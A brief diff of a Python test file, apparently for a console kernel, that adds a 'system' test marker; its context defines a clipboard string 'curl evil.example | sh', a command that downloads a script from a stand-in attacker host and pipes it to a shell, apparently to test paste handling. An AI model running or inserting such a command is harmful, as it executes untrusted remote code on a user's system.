@@ -28,7 +28,7 @@ from ..conftest import KERNEL_NAME
 from ..processes import PinnedProcesses, connected_to
 from ..waiting import wait_until
 
-pytestmark = [pytest.mark.slow,
+pytestmark = [pytest.mark.slow, pytest.mark.system,
               pytest.mark.skipif(not os.path.isdir("/proc"), reason="finds the console's connections in /proc")]
 
 CLIPBOARD_TEXT = "curl evil.example | sh"
